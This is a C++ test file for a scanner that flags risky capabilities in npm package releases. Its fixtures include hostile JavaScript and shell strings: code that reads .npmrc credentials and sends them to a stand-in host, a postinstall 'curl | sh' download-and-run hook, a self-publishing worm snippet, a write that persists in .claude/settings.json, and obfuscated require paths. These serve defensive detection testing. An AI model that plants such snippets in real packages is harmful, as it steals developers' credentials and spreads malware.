#include <doctest/doctest.h>

#include <algorithm>
#include <string>

#include "tests/support/release_builder.hpp"

namespace sallyport {

namespace {

constexpr std::string_view steals = "require('https').get(u+require('fs').readFileSync(h+'/.npmrc'))";
constexpr std::string_view reads = "module.exports=require('fs').readFileSync(h+'/.npmrc')";
constexpr std::string_view sends = "module.exports=d=>fetch('https://c.example.invalid',{body:d})";

std::vector<Said> ask_of(std::string_view rule,
                         std::initializer_list<std::pair<std::string_view, std::string_view>> files,
                         std::string_view package = "{}") {
  ReleaseBuilder builder(package);
  for (const auto& [path, text] : files) builder.scanned(path, text);
  return ask(rule, builder);
}

}  // namespace

TEST_CASE("a capability that the last release lacked is told, once, and an old one is not") {
  ReleaseBuilder plain("{}", "1.0.0"), networked("{}", "1.0.0");
  plain.scanned("a.js", "module.exports = 1");
  networked.scanned("a.js", "require('https').get(x)");

  ReleaseBuilder gains;
  gains.scanned("a.js", "require('https').get(x)").scanned("b.js", "require('http')");
  const auto said = ask("code/capability", gains.after(plain));
  REQUIRE(said.size() == 1);
  CHECK(said[0].tier == 0);
  CHECK(said[0].file == "a.js");
  CHECK(said[0].evidence == "require(\"https\")");

  ReleaseBuilder same;
  same.scanned("c.js", "await fetch(y)");
  CHECK(ask("code/capability", same.after(networked)).empty());

  ReleaseBuilder first;
  first.scanned("a.js", "eval(x)");
  CHECK(ask("code/capability", first).empty());

  ReleaseBuilder unmeasured("{}", "1.0.0"), later;
  unmeasured.release().facts.measured = false;
  later.scanned("a.js", "eval(x)");
  CHECK(ask("code/capability", later.after(unmeasured)).empty());
}

TEST_CASE("two capabilities that make a pattern are escalated") {
  ReleaseBuilder plain("{}", "1.0.0"), networked("{}", "1.0.0");
  plain.scanned("a.js", "module.exports = 1");
  networked.scanned("a.js", "require('https')");
  const auto escalated = [](std::vector<Said> said) {
    return std::count_if(said.begin(), said.end(), [](const Said& s) { return s.tier == 1; });
  };
  ReleaseBuilder both, apart, together;
  both.scanned("a.js", "fetch(x)").scanned("b.js", "eval(y)");
  CHECK(escalated(ask("code/capability", both.after(plain))) == 1);
  apart.scanned("a.js", "require('https')").scanned("b.js", "require('child_process')");
  CHECK(escalated(ask("code/capability", apart.after(networked))) == 0);
  together.scanned("a.js", "require('https');send(process.env)");
  CHECK(escalated(ask("code/capability", together.after(networked))) == 1);
}

TEST_CASE("what does not run where it is installed has no capability, unless something loads it") {
  const auto capabilities = [](std::initializer_list<std::pair<std::string_view, std::string_view>> files,
                               std::string_view package = "{}") {
    ReleaseBuilder builder(package);
    for (const auto& [path, text] : files) builder.scanned(path, text);
    return builder.release().facts.capabilities.size();
  };
  const std::string_view bad = "require('child_process').exec('curl -d @.npmrc '+u)";
  CHECK(capabilities({{"lib/a.js", bad}}) > 0);
  CHECK(capabilities({{"bin/tool", "#!/usr/bin/env node\nrequire('child_process')"}}) > 0);
  CHECK(capabilities({{"test/a.js", bad},
                      {"docs/b.js", bad},
                      {"README.md", bad},
                      {"a.spec.ts", bad},
                      {"a.d.ts", bad}}) == 0);
  CHECK(capabilities({{"test/a.js", bad}, {"index.js", "require('./test/a')"}}) > 0);
  CHECK(capabilities({{"test/index.js", bad}, {"lib/index.js", "require('../te'+'st')"}}) > 0);
  CHECK(capabilities({{"test/a.js", bad}, {"index.js", "require('./a')"}}) == 0);
  CHECK(capabilities({{"README.md", bad}, {"index.js", "eval(read(__dirname+'/README.md'))"}}) > 1);
  CHECK(capabilities({{"README.md", bad}, {"index.js", "eval(read(`${__dirname}/READ${'ME.md'}`))"}}) > 1);
  CHECK(capabilities({{"payload", bad}}, R"({"main":"./payload"})") > 0);
  CHECK(capabilities({{"test/a.js", bad}}, R"({"exports":{".":{"require":"./test/a.js"}}})") > 0);
  CHECK(capabilities({{"docs/a.txt", bad}}, R"({"scripts":{"postinstall":"node docs/a.txt"}})") > 0);
}

TEST_CASE("credentials with a way out are told in one file and over one import") {
  REQUIRE(ask_of("code/exfiltration", {{"a.js", steals}}).size() == 1);
  CHECK(ask_of("code/exfiltration", {{"a.js", reads}}).empty());
  CHECK(ask_of("code/exfiltration", {{"a.js", reads}, {"b.js", sends}}).empty());
  CHECK(ask_of("code/exfiltration", {{"a.js", reads}, {"b.js", std::string(sends) + ";require('./a')"}})
            .size() == 1);
  CHECK(ask_of("code/exfiltration", {{"a.js", std::string(reads) + ";require('./'+'b')"}, {"b.js", sends}})
            .size() == 1);
  CHECK(ask_of("code/exfiltration", {{"lib/a.js", reads},
                                     {"lib/b.js", sends},
                                     {"index.js", "require('./lib/b')(require('./lib/a'))"}})
            .size() == 1);
  CHECK(ask_of("code/exfiltration", {{"data.json", "{\"a\":\"" + std::string(steals) + "\"}"},
                                     {"index.js", "eval(require('./data.json').a)"}})
            .size() == 1);
  CHECK(ask_of("code/exfiltration", {{"x.d.ts", steals}, {"index.js", "require('./x.d.ts')"}}).size() == 1);
  CHECK(ask_of("code/exfiltration", {{"README.md", steals}}).empty());
}

TEST_CASE("a way out is found however the path to it is written, and not where it is only spoken of") {
  const auto told = [](const std::string& load, const std::string& end = "b.js") {
    return ask_of("code/exfiltration", {{"a.js", std::string(reads) + ";" + load}, {end, sends}}).size();
  };
  for (const char* load : {"require('\\x2e/b')", "require(\"\\u002e\\u{2f}b\")", "require('./\\x62')",
                           "require(`./b`)", "import x from \"./b.js\"", "import('./'+'b')",
                           "const p = './b'; require(p)", "require(['.','b'].join('/'))"})
    CHECK_MESSAGE(told(load) == 1, load);
  CHECK(told(std::string(70'000, ' ') + "require('./b')") == 1);
  CHECK(told("require('.')", "index.js") == 1);
  CHECK(told("require('./lib')", "lib/index.js") == 1);
  CHECK(told("// require('./b')") == 0);
  CHECK(told("require('b')") == 0);
  CHECK(told("x.split('.')", "index.js") == 0);
  CHECK(told("require('c'), x.split('.')", "index.js") == 0);
  CHECK(told("require('./c')") == 0);
}

TEST_CASE("what the last release did already is not new, and what is far apart is told only where it is") {
  ReleaseBuilder old("{}", "1.0.0"), same, moved, other;
  old.scanned("a.js", steals);
  same.scanned("a.js", steals);
  moved.scanned("dist/chunk-123.js", std::string("/* moved */") + std::string(steals));
  other.scanned("a.js", std::string(steals) + ";f('/.ssh/id_rsa')");
  CHECK(ask("code/exfiltration", same.after(old)).empty());
  CHECK(ask("code/exfiltration", moved.after(old)).empty());
  CHECK(ask("code/exfiltration", other.after(old)).size() == 1);

  std::string apart(sends);
  while (apart.size() < 200'000) apart += ";var nothing = 'of interest'";
  apart += ";" + std::string(reads);
  ReleaseBuilder before("{}", "1.0.0"), first, after;
  before.scanned("a.js", sends);
  first.scanned("a.js", apart);
  after.scanned("a.js", apart);
  CHECK(ask("code/exfiltration", first).empty());
  CHECK(ask("code/exfiltration", after.after(before)).size() == 1);
}

TEST_CASE("install scripts and code that fetch a program and run it") {
  const std::string_view script = R"({"scripts":{"postinstall":"curl -s https://x.example.invalid | sh"}})";
  CHECK(ask_of("code/download-and-run", {}, script).size() == 1);
  CHECK(ask_of("code/download-and-run", {}, R"({"scripts":{"preinstall":"npm install -g x"}})").size() == 1);
  CHECK(ask_of("code/download-and-run", {}, R"({"scripts":{"test":"curl x | sh","postinstall":"node a.js"}})")
            .empty());
  CHECK(ask_of("code/download-and-run", {{"install.sh", "curl x | sh\n"}},
               R"({"scripts":{"install":"sh ./install.sh --quiet"}})")
            .size() == 1);
  CHECK(ask_of("code/download-and-run", {{"setup.sh", "curl x | sh\n"}, {"a.js", "run('setup')"}}).size() ==
        1);
  CHECK(ask_of("code/download-and-run", {{"a.sh", ". ./setup.sh\n"}, {"setup.sh", "curl x | sh\n"}}).size() ==
        1);
  CHECK(ask_of("code/download-and-run", {{"lib/x.sh", "curl x | sh\n"}},
               R"({"scripts":{"install":"sh lib/*.sh"}})")
            .size() == 1);
  CHECK(ask_of("code/download-and-run", {{"setup.sh", "curl x | sh\n"}, {"a.js", "run('other')"}}).empty());
  CHECK(ask_of("code/download-and-run", {{"lib/package.json", R"({"main":"../data/t.txt"})"},
                                         {"data/t.txt", "require('child_process').exec('curl x | sh')"},
                                         {"a.js", "require('./lib')"}})
            .size() == 1);
  ReleaseBuilder shells;  // so many that they are not looked for one by one
  for (int i = 0; i < 30; ++i) shells.scanned("tool" + std::to_string(i) + ".sh", "curl x | sh\n");
  CHECK_FALSE(ask("code/download-and-run", shells).empty());
  CHECK(ask_of("code/download-and-run", {{"a.js", "require('child_process').exec('curl x|sh')"}}).size() ==
        1);
  ReleaseBuilder old(script, "1.0.0"), same(script);
  CHECK(ask("code/download-and-run", same.after(old)).empty());
}

TEST_CASE("worms, and code that makes itself stay") {
  const std::string_view worm =
      "const f=require('fs'),c=require('child_process');f.writeFileSync('package.json',x);c.execSync('npm "
      "publish')";
  const std::string_view stays = "require('fs').writeFileSync('.claude/settings.json',x)";
  CHECK(ask_of("code/self-publish", {{"a.js", worm}}).size() == 1);
  CHECK(ask_of("code/self-publish", {{"scripts/test/a.js", worm}}).empty());
  CHECK(ask_of("code/persistence", {{"a.js", stays}}).size() == 1);
  ReleaseBuilder old("{}", "1.0.0"), same;
  old.scanned("a.js", worm).scanned("b.js", stays);
  same.scanned("a.js", worm).scanned("b.js", stays);
  CHECK(ask("code/self-publish", same.after(old)).empty());
  CHECK(ask("code/persistence", same.after(old)).empty());
}

TEST_CASE("broken scripts are told with their place") {
  const auto said = ask_of("code/unparsable", {{"a.js", "eval(x)\n}"}});
  REQUIRE(said.size() == 1);
  CHECK(said[0].message == "the file is neither a script nor a module: a bracket that nothing opened");
  CHECK(ask_of("code/unparsable", {{"a.js", "eval(x)"}}).empty());
}

}  // namespace sallyport
